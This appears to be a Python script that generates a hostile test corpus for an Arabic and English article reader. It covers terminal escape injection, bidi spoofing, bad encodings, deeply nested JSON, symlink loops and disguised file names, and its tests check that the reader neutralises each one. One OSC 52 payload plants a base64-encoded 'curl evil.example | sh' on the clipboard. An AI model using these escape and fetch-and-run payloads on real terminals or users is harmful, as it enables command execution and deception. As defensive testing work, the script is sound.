"""The hostile test corpus: files that try to drive the terminal, spoof reading order, break
decoding or parsing, or exhaust resources, next to a few ordinary articles.

Small files are committed under ``tests/hostile/corpus/`` (``python tests/hostile/make_corpus.py``
rewrites them, and a test checks they match this script). Large or special files — a 50 MB
single-line file, symbolic link loops, a named pipe, a device, hostile file names — are made at
test time by :func:`write_special` into a temporary folder, never committed.

``GOOD`` lists the article ids that must load; ``BAD`` maps each bad file's id to a fragment of
its one-line error. Every escape-sequence payload carries ``MARKER`` (or is ``CLIPBOARD_B64``),
so a test can prove none of them reaches the output.
"""

from __future__ import annotations

import base64
import codecs
import json
import os
import sys
from pathlib import Path

CORPUS = Path(__file__).resolve().parent / "corpus"
MARKER = "XPAYLOADX"
CLIPBOARD_B64 = base64.b64encode(b"curl evil.example | sh").decode()
HIDDEN_TEXT = "SHOWNHIDDEN"
ESC = "\x1b"
ST = ESC + "\\"

HEADLINE = "وزير الخارجية: لن نقبل بأي اتفاق لا يحفظ حقوقنا"
ARABIC = (
    "قال وزير الخارجية سامر الخطيب إن «المفاوضات مستمرة ولن نتنازل عن حقوقنا».\n\n"
    "وأضاف الخطيب أن الوفد سيعود إلى عمّان الأسبوع المقبل لاستكمال المحادثات.\n\n"
    "من جهتها، قالت المتحدثة باسم الأمم المتحدة إيلينا روسي: «نأمل في اتفاق قريب»."
)
ENGLISH = (
    "Water talks resume in Amman\n\n"
    "AMMAN - Negotiators from Iraq and Turkey met again on Tuesday, the United Nations said.\n\n"
    '"We are close to an agreement on a joint committee," said envoy Elena Rossi.\n\n'
    "Iraq's water minister said the talks would continue next week."
)
MIXED = (
    "محادثات المياه: Rossi says «a deal is close»\n\n"
    "قال المبعوث Elena Rossi في مؤتمر صحفي في Amman إن «التقدم ملموس».\n\n"
    'وأضاف وزير الموارد المائية حيدر الساعدي: "we will not sign an unfair deal".\n\n'
    "The UN envoy said the next round would start on 3 November."
)


def _article(extra_first: str = "", extra_body: str = "") -> str:
    return f"{HEADLINE}{extra_first}\n\n{ARABIC}{extra_body}\n"


# 7-bit and 8-bit escape sequences, each carrying MARKER where it has a payload.
CSI = (f"{ESC}[31;1m{ESC}[2J{ESC}[H{ESC}[10A{ESC}[?25l{ESC}[8m{HIDDEN_TEXT}{ESC}[0m"
       f"{ESC}[38;2;255;0;0m\u009b2J{ESC}[!p{ESC}[?1049h")
OSC = (f"{ESC}]52;c;{CLIPBOARD_B64}\x07"
       f"{ESC}]0;{MARKER}-title{ST}"
       f"{ESC}]8;;https://evil.example/{MARKER}-link{ST}انقر هنا{ESC}]8;;{ST}"
       f"{ESC}P1$q{MARKER}-dcs{ST}"
       f"{ESC}_{MARKER}-apc{ST}{ESC}^{MARKER}-pm{ST}{ESC}X{MARKER}-sos{ST}"
       f"\u009d2;{MARKER}-c1-title\u009c{ESC}]1337;SetUserVar={MARKER}\x07"
       f"{ESC}c{ESC}(0{ESC}#8{ESC}7{ESC}8")
C0_C1 = "\x07\x08\x0b\x0c\x0e\x0f\x11\x13\x1a\x7f\u0080\u0085\u008d\u0090\u0099\u009f"
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff\u200e\u200f\u061c\u00ad\U000e0041\U000e0042"
MARKUP = ("[bold red]ليس تنسيقا[/] [@click=app.quit]XCLICKX[/] "
          "[link=https://evil.example/markup]رابط[/link] \\[escaped]")

GOOD_TEXT: dict[str, bytes] = {
    "english.txt": (ENGLISH + "\n").encode(),
    "mixed_arabic_english.txt": (MIXED + "\n").encode(),
    "ansi_csi.txt": _article(CSI, f" {CSI}").encode(),
    "osc_sequences.txt": _article(OSC, f"\n\n{OSC}").encode(),
    "c0_c1_controls.txt": _article(extra_body=f" {C0_C1} نهاية\r\nسطر\rآخر").encode(),
    "nul_bytes.txt": _article(extra_body=" \x00نص\x00 بعد صفر").encode(),
    "bidi_overrides.txt": _article(
        extra_body="\n\nقال الوزير: «\u202eاتفاق سيئ\u202c» و\u2067مقلوب\u2069 "
                   "و\u202dLTR\u202c و\u202bRLE\u202c و\u2066LRI\u2069 و\u2068FSI\u2069"
                   " و\u202aLRE\u202c").encode(),
    "zero_width.txt": _article(extra_body=f" الخ{ZERO_WIDTH}طيب").encode(),
    "markup_in_text.txt": _article(extra_body=f"\n\n{MARKUP}").encode(),
    "utf8_bom_crlf.txt": codecs.BOM_UTF8 + _article().replace("\n", "\r\n").encode(),
    "utf16_bom.txt": _article().encode("utf-16"),
    "utf16le_no_bom.txt": _article().encode("utf-16-le"),
    "utf16be_no_bom.txt": _article().encode("utf-16-be"),
    "windows1256.txt": _article().encode("cp1256"),
    "latin1_mojibake.txt": _article().encode().decode("latin-1").encode(),
    "cp1252_mojibake.txt": "".join(
        chr(b) if b in (0x81, 0x8D, 0x8F, 0x90, 0x9D) else bytes([b]).decode("cp1252")
        for b in _article().encode()).encode(),
    "script_style.html": (
        "<html><head><title>عنوان الصفحة</title><style>body{color:red}"
        f"/*{ESC}]0;{MARKER}-style\x07*/</style>"
        f"<script>document.title='{MARKER}-script'; alert(1)</script></head><body>"
        f"<noscript>{MARKER}-noscript</noscript><h1>{HEADLINE}</h1>"
        f"<p>{ARABIC.split(chr(10))[0]}{ESC}]0;{MARKER}-raw\x07&#27;[31m</p>"
        "<p>فقرة <b>ثانية</b> &#x202E;مقلوبة&#x202C;.</p>"
        f"<svg><text>{MARKER}-svg</text></svg></body></html>").encode(),
    "hostile_metadata.json": json.dumps({
        "title": f"عنوان{ESC}]0;{MARKER}-meta\x07 خبيث \u202eمقلوب\u202c",
        "text": ARABIC,
        "date": f"2026-10-14{ESC}[2K",
        "source": f"{ESC}[31mوكالة{ESC}[0m\u0085",
        "url": f"https://example.org/a{ESC}]52;c;{CLIPBOARD_B64}\x07",
        "extra": {"nested": [1, 2, {"x": None}]},
    }, ensure_ascii=False).encode(),
    "lone_surrogate.json": b'{"title": "\\ud800 \\udfff", "text": "' + ARABIC.split("\n")[0]
    .encode() + b' \\udc80 \\u001b]0;' + MARKER.encode() + b'-json\\u0007"}',
    "records.jsonl": (
        json.dumps({"title": HEADLINE, "text": ARABIC}, ensure_ascii=False) + "\n"
        + '{"title": "x", "text": ["not", "text"]}\n'
        + json.dumps({"headline": "English brief", "body": ENGLISH}) + "\n").encode(),
}
GOOD = sorted([*GOOD_TEXT, "records.jsonl#1", "records.jsonl#3"])
GOOD.remove("records.jsonl")

BAD_TEXT: dict[str, bytes] = {
    "invalid_utf8.txt": f"{HEADLINE}\n\n".encode() + b"\xff\xfe\xc3\x28" + ARABIC.encode(),
    "binary.bin": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
                   + bytes((i * 37 + 11) % 256 for i in range(4000))),
    "empty.txt": b"",
    "whitespace_only.txt": "  \n\t\n   \r\n\u3000\n".encode(),
    "only_escapes.txt": f"{ESC}[31m{ESC}]0;{MARKER}-only{ST}{ESC}[0m\n\u200b\n".encode(),
    "deep_nesting.json": b"[" * 100_000 + b"]" * 100_000,
    "deep_object.jsonl": b'{"a":' * 50_000 + b"1" + b"}" * 50_000 + b"\n",
    "wrong_types.json": json.dumps({"title": ["a", "list"], "text": {"an": "object"}}).encode(),
    "text_is_number.json": b'{"title": "t", "text": 12345}',
    "not_an_object.json": b'"just a string"',
    "huge_number.json": b'{"title": "t", "text": ' + b"9" * 5000 + b"}",
    "truncated.json": b'{"title": "t", "text": "unterminated',
    "script_only.html": f"<html><script>{MARKER}</script><style>x{{}}</style></html>".encode(),
}
BAD: dict[str, str] = {
    "invalid_utf8.txt": f"invalid UTF-8 at byte {len(HEADLINE.encode()) + 2}",
    "binary.bin": "not text: binary content",
    "empty.txt": "empty file",
    "whitespace_only.txt": "empty file",
    "only_escapes.txt": "no readable text",
    "deep_nesting.json": "nested too deeply",
    "deep_object.jsonl#1": "nested too deeply",
    "wrong_types.json": "key 'title' should be text, found a list",
    "text_is_number.json": "key 'text' should be text, found a number",
    "not_an_object.json": "expected an article object, found a string",
    "huge_number.json": "invalid JSON",
    "truncated.json": "invalid JSON at line 1",
    "script_only.html": "no paragraph text in HTML",
    "records.jsonl#2": "key 'text' should be text, found a list",
}

# Made at test time by write_special: id -> fragment of the error.
BIG_LINE_BYTES = 50 * 1024 * 1024
SPECIAL_BAD: dict[str, str] = {
    "big_single_line.txt": "file too large",
    "self_loop.txt": "Too many levels of symbolic links",
    "dangling_link.txt": "No such file or directory",
    "named_pipe.txt": "not a regular file: a named pipe",
    "device.txt": "not a regular file: a device",
    "linked_folder/back_to_root": "folder already read",
}
# Good articles whose *names* are hostile: id as shown -> name bytes on disk.
SPECIAL_NAMES: dict[str, bytes] = {
    "\\x1b]0;NAMEPAYLOAD\\x07.txt": b"\x1b]0;NAMEPAYLOAD\x07.txt",
    "bad\\xffname.txt": b"bad\xffname.txt",
    "[RLO]txt.exe": "\u202etxt.exe".encode(),
}
SPECIAL_GOOD = ["linked_folder/inner.txt", *SPECIAL_NAMES]


def write_committed(folder: Path = CORPUS) -> None:
    """Write the small corpus files (the committed ones)."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in {**GOOD_TEXT, **BAD_TEXT}.items():
        (folder / name).write_bytes(data)


def write_special(folder: Path) -> None:
    """Write the large and special files into ``folder`` (test time only, never committed)."""
    with open(folder / "big_single_line.txt", "wb") as out:
        chunk = ("كلمة " * 10_000).encode()
        for _ in range(BIG_LINE_BYTES // len(chunk) + 1):
            out.write(chunk)
    os.symlink("self_loop.txt", folder / "self_loop.txt")
    os.symlink("missing_target.txt", folder / "dangling_link.txt")
    os.mkfifo(folder / "named_pipe.txt")
    os.symlink(os.devnull, folder / "device.txt")
    linked = folder / "linked_folder"
    linked.mkdir()
    (linked / "inner.txt").write_bytes(_article().encode())
    os.symlink("..", linked / "back_to_root")
    for raw in SPECIAL_NAMES.values():
        with open(os.path.join(os.fsencode(folder), raw), "wb") as out:
            out.write(_article().encode())


def expected_good() -> list[str]:
    return sorted([*GOOD, *SPECIAL_GOOD])


def expected_bad() -> dict[str, str]:
    return {**BAD, **SPECIAL_BAD}


if __name__ == "__main__":
    write_committed(Path(sys.argv[1]) if len(sys.argv) > 1 else CORPUS)
